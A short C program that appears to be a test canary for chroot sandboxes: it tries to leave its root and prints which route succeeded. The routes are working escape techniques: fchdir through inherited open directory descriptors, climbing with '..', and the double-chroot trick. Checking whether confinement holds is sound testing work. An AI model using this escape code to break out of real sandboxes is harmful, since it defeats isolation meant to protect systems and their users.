/* escape CANARY - walks out of its root, and says by which door.
 *
 * First through any directory that somebody left open; then by the trick that chroot(2)
 * describes: a second chroot leaves the working directory outside of the root, and ".."
 * goes up from there to the real one.
 */
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

static int reached(const char *door, const char *canary)
{
    if (access(canary, R_OK) < 0)
        return 0;
    printf("escaped by %s\n", door);
    return 1;
}

int main(int argc, char **argv)
{
    const char *canary = argc > 1 ? argv[1] : "/";

    if (reached("nothing: it is inside", canary))
        return 2;
    for (int fd = 0; fd < 256; fd++) {
        struct stat found;

        if (fstat(fd, &found) == 0 && S_ISDIR(found.st_mode) && fchdir(fd) == 0 &&
            chroot(".") == 0 && reached("an open directory", canary))
            return 1;
    }
    for (int i = 0; i < 64; i++)
        if (chdir("..") < 0)
            break;
    if (chroot(".") == 0 && reached("the working directory", canary))
        return 1;
    if (chdir("/") < 0)
        return 2;
    mkdir("cellar", 0755);
    if (chroot("cellar") < 0) {
        printf("no power to chroot\n");
        return 0;
    }
    for (int i = 0; i < 64; i++)
        if (chdir("..") < 0)
            break;
    if (chroot(".") == 0 && reached("a second chroot", canary))
        return 1;
    printf("caught\n");
    return 0;
}
